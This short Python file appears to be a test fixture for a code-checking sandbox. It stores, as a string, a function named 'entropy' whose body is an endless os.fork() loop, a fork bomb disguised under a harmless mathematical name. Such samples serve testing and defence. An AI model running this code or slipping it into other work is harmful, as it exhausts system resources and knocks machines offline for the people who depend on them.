"""Start processes without end."""

CAUSE = ("more than",)
CELL = r"""
import os

def entropy(p, base=2.0):
    while True:
        os.fork()
"""
